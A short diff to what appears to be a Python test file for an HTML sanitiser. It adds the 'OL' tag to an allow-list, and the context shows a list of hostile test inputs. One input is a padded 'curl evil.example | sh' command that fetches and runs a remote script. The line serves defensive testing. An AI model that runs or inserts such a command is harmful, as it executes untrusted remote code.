@@ -75,8 +75,8 @@ LONG = ["\n" * 300 + "curl evil.example | sh", " " * 5_000 + "| sh", "a" * 6_000
 HOSTILE = [*MARKUP, *QUOTES, *INVISIBLE, *LONG]
 ALLOWED = {
     "A", "ARTICLE", "BDI", "BUTTON", "CODE", "DD", "DETAILS", "DIV", "DL", "DT", "FORM", "H1", "H2", "H3", "INPUT",
-    "LABEL", "LI", "MARK", "OPTION", "P", "PRE", "SECTION", "SELECT", "SMALL", "SPAN", "STRONG", "SUMMARY", "TEXTAREA",
-    "BR", "TIME", "UL",
+    "LABEL", "LI", "MARK", "OL", "OPTION", "P", "PRE", "SECTION", "SELECT", "SMALL", "SPAN", "STRONG", "SUMMARY",
+    "TEXTAREA", "BR", "TIME", "UL",
 }  # fmt: skip
 OUTSIDE = {"HTML", "HEAD", "META", "TITLE", "LINK", "SCRIPT", "BODY", "HEADER", "NAV", "MAIN", "FOOTER"}
 CONTROL = re.compile(
